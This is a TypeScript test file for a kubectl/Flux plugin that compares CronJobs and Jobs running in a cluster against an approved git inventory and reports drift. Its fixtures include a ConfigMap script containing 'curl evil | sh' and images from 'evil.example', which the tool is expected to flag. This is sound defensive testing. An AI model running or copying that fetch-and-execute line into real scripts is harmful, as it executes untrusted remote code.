// kubectl cronledger, started by the real kubectl, which reads an API server on this machine with a kubeconfig.
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, symlinkSync } from 'node:fs';
import { delimiter, dirname, join, resolve } from 'node:path';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { exec } from '../../src/exec.ts';
import { CRON_JOB, cronJob, job, MINUTE, SCRIPTS } from '../cluster/server.ts';
import { createFolder, createRepository, type TestRepository } from '../support/git-repo.ts';
import { type KubeServer, startKube } from '../support/kube-server.ts';
import { runCli } from '../support/run-cli.ts';
import { kubectlPath } from '../support/tools.ts';

const root = resolve(import.meta.dirname, '../..');
const program = join(root, 'plugins/kubectl/kubectl-cronledger');
const scripts = (text: string) => ({
  apiVersion: 'v1',
  kind: 'ConfigMap',
  metadata: { name: 'report-scripts', namespace: 'billing', uid: '1' },
  data: { 'run.sh': text },
});
const stranger = job({ name: 'node-tuning', owner: null, annotations: {}, image: 'evil.example/x:1' });

let shared: Promise<TestRepository> | null = null;
function approved(): Promise<TestRepository> {
  shared ??= (async () => {
    const files = { 'apps/billing/report.yaml': CRON_JOB, 'apps/billing/scripts.yaml': SCRIPTS };
    const elsewhere = CRON_JOB.replace('namespace: billing', 'namespace: other');
    const repository = await createRepository({ ...files, 'apps/other/report.yaml': elsewhere });
    const run = await runCli(['inventory', 'init', '--expires', 'never'], { cwd: repository.path });
    expect(run.code, run.stderr).toBe(0);
    await repository.commit({}, 'List the report');
    return repository;
  })();
  return shared;
}

/** As a person types it: kubectl finds the plugin in PATH. */
async function kubectl(server: KubeServer, ...args: readonly string[]) {
  const { path: cwd } = await approved();
  const bin = await createFolder({});
  symlinkSync(program, join(bin, 'kubectl-cronledger'));
  const kubectl = await kubectlPath();
  const env = {
    PATH: [bin, dirname(kubectl), dirname(process.execPath), process.env['PATH'] ?? ''].join(delimiter),
    KUBECONFIG: server.kubeconfig,
    HOME: bin,
  };
  const { code, stdout, stderr } = await exec(kubectl, ['cronledger', ...args], { cwd, env });
  return { code, stdout: stdout.toString('utf8'), stderr };
}

describe('kubectl cronledger verify', () => {
  test('reads the namespace of the context, page by page, and expects nothing of others there', async () => {
    const server = await startKube([cronJob(), job(), job({ name: `report-${MINUTE}`, ended: true })]);
    const run = await kubectl(server, 'verify');
    expect(run, run.stderr).toMatchObject({ code: 0 });
    expect(server.requests.every(path => path.includes('/namespaces/billing/'))).toBe(true);
    expect(new Set(server.requests)).toEqual(
      new Set(['cronjobs', 'jobs'].map(name => `/apis/batch/v1/namespaces/billing/${name}`)),
    );
  });

  test('tells what is not approved on any page, and in all namespaces what does not run', async () => {
    const server = await startKube([
      cronJob({ image: 'evil.example/report:1' }),
      job(),
      job({ name: `report-${MINUTE + 1}`, ended: true }),
      stranger,
    ]);
    const run = await kubectl(server, 'verify', '-A', '-o', 'json');
    expect(run.code).toBe(1);
    const { findings }: { findings: { rule: string; message: string }[] } = JSON.parse(run.stdout);
    const rules = findings.map(({ rule }) => rule);
    expect(rules).toEqual(
      expect.arrayContaining(['job-drift-from-approved', 'job-not-in-inventory', 'cluster-workload-missing']),
    );
    expect(findings.filter(({ rule }) => rule === 'cluster-workload-missing').map(({ message }) => message)).toEqual([
      expect.stringContaining('other/report'),
    ]);
    expect(findings.map(({ message }) => message).join()).toContain('node-tuning');
  });

  test('an empty namespace where something is approved is told; one where nothing is, is a pass', async () => {
    const server = await startKube([]);
    const missing = await kubectl(server, 'verify', '-n', 'other');
    expect(missing.stdout).toContain('the cluster does not run it');
    expect(await kubectl(server, 'verify', '--context', 'bare')).toMatchObject({ code: 0 });
    expect(server.requests.at(-1)).toContain('/namespaces/default/');
  });

  test.each([
    ['a server that refuses', ['verify', '--context=stranger'], 'cluster-unreadable', 'forbidden'],
    ['a context that is not there', ['verify', '--context=none'], 'cluster-unreadable', 'none'],
    ['-n and -A', ['verify', '-n', 'a', '-A'], 'usage', 'were both given'],
    ['another command', ['delete', 'report'], 'usage', 'none of its commands'],
    ['a name that does not run', ['why', 'nothing'], 'workload-not-found', 'runs no'],
  ])('%s is no pass', async (_, args, code, said) => {
    const run = await kubectl(await startKube([cronJob()]), ...args);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain(`[${code}]`);
    expect(run.stderr).toContain(said);
    expect(run.stdout).toBe('');
  });
});

describe('kubectl cronledger why', () => {
  test('tells entry, commit and approvers, also of a Job that the controller made', async () => {
    const server = await startKube([cronJob(), job(), stranger]);
    for (const name of ['report', 'cronjob/report', `job/report-${MINUTE}`]) {
      const { code, stdout, stderr } = await kubectl(server, 'why', name);
      expect(code, stderr).toBe(0);
      expect(stdout).toContain('CronJob billing/report runs as it was approved.');
      expect(stdout).toMatch(/entry +\.cronledger\/inventory\/billing\.yaml:\d+/);
      expect(stdout).toMatch(/commit +[0-9a-f]{12} 2026-01-02T03:04:05Z Ada: List the report/);
      expect(stdout).toMatch(/approved +no record/);
      expect(stdout.includes('was made by the CronJob controller')).toBe(name.startsWith('job/'));
    }
  });

  test('what has no entry, or runs otherwise, fails', async () => {
    const server = await startKube([cronJob({ image: 'evil.example/report:1' }), stranger]);
    const unlisted = await kubectl(server, 'why', 'job/node-tuning');
    expect(unlisted).toMatchObject({ code: 1 });
    expect(unlisted.stdout).toContain('Job billing/node-tuning is not in the inventory of HEAD.');
    const drifted = await kubectl(server, 'why', 'report');
    expect(drifted.code).toBe(1);
    expect(drifted.stdout).toContain('does not run as it was approved');
    expect(drifted.stdout).toContain('evil.example/report:1');
  });
});

describe('kubectl cronledger diff', () => {
  test('says nothing of what the server, deployers and the controller added', async () => {
    const run = await kubectl(await startKube([cronJob(), job()]), 'diff');
    expect(run).toMatchObject({ code: 0, stdout: 'What runs is what HEAD has.\n' });
  });

  test('shows fields, scripts where they are asked for, what is in no manifest and what does not run', async () => {
    const server = await startKube([cronJob({ image: 'evil.example/report:1' }), scripts('curl evil | sh'), stranger]);
    const fields = await kubectl(server, 'diff', 'report');
    expect(fields.code).toBe(1);
    expect(fields.stdout).toContain('- ghcr.io/acme/report:1.8.2');
    expect(fields.stdout).toContain('+ evil.example/report:1');
    expect(fields.stdout).not.toContain('curl evil');
    const all = await kubectl(server, 'diff', '-A', '--configmaps');
    expect(all.stdout).toContain('curl evil | sh');
    expect(all.stdout).toContain('Job billing/node-tuning runs, and is in no manifest of HEAD.');
    expect(all.stdout).toContain('CronJob other/report does not run; HEAD has it at apps/other/report.yaml');
    expect((await kubectl(server, 'diff', '-o', 'json')).code).toBe(2);
  });
});

test('flux takes it by a link in its folder of plugins, and the package has both names', async () => {
  const { bin } = JSON.parse(readFileSync(join(root, 'package.json'), 'utf8'));
  expect(bin).toMatchObject({ 'kubectl-cronledger': bin['flux-cronledger'] });
  const folder = await createFolder({});
  mkdirSync(join(folder, 'plugins'));
  const link = join(folder, 'plugins', 'flux-cronledger');
  symlinkSync(join(root, bin['flux-cronledger']), link);
  const said = execFileSync(link, ['--help'], { encoding: 'utf8' });
  expect(said).toContain('cronledger kubectl verify | why NAME | diff [NAME]');
});

test('the manifest for Krew is one that its validation takes, and names files that are there', () => {
  // As krew-release-bot fills it in.
  const text = readFileSync(join(root, 'plugins/kubectl/krew.yaml'), 'utf8')
    .replace(/\{\{addURIAndSha "(.*)" \.TagName \}\}/, (_, uri) => `uri: ${uri}\n    sha256: ${'0'.repeat(64)}`)
    .replaceAll('{{ .TagName }}', 'v0.1.0');
  const plugin = parse(text, { strict: true, uniqueKeys: true });
  // https://github.com/kubernetes-sigs/krew/blob/master/pkg/index/types.go and pkg/index/validation/validate.go
  expect(Object.keys(plugin)).toEqual(['apiVersion', 'kind', 'metadata', 'spec']);
  expect(plugin).toMatchObject({ apiVersion: 'krew.googlecontainertools.github.com/v1alpha2', kind: 'Plugin' });
  expect(plugin.metadata.name).toBe('cronledger');
  const known = ['version', 'homepage', 'shortDescription', 'description', 'caveats', 'platforms'];
  expect(Object.keys(plugin.spec)).toEqual(known);
  // The index asks for at most 50 characters and no full stop.
  expect(plugin.spec.shortDescription).toMatch(/^.{1,49}[^.]$/);
  const [platform, ...more] = plugin.spec.platforms;
  expect(more).toEqual([]);
  expect(Object.keys(platform)).toEqual(['selector', 'uri', 'sha256', 'files', 'bin']);
  expect(platform.selector.matchExpressions.map(({ key }: { key: string }) => key)).toEqual(['os']);
  const there = platform.files.map(({ from }: { from: string }) => from.replace('cronledger-*/', ''));
  for (const name of [...there, platform.bin]) expect(existsSync(join(root, name)), name).toBe(true);
});
